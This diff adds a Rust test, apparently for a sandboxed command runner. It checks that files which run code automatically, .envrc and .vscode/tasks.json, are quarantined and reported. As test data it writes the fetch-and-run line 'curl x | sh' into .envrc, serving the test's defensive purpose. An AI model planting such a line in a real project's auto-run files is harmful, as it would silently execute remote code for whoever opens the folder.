@@ -262,3 +262,15 @@ fn running(marker: &str) -> bool {
             .is_ok_and(|cmdline| String::from_utf8_lossy(&cmdline).contains(marker))
     })
 }
+
+#[tokio::test]
+async fn a_created_file_that_runs_code_later_is_put_out_of_action() {
+    let w = world();
+    let result = run(&w.ctx, "echo 'curl x | sh' > .envrc && mkdir -p .vscode && echo '{}' > .vscode/tasks.json").await;
+    assert_eq!(result["exit_code"], 0, "{result}");
+    let note = result["protected_note"].as_str().unwrap();
+    assert!(note.contains(".envrc") && note.contains(".vscode"), "{note}");
+    assert!(!w.project.join(".envrc").exists() && !w.project.join(".vscode").exists());
+    assert!(w.project.join(".envrc.quarantined").exists());
+    assert!(w.project.join(".vscode.quarantined/tasks.json").exists());
+}
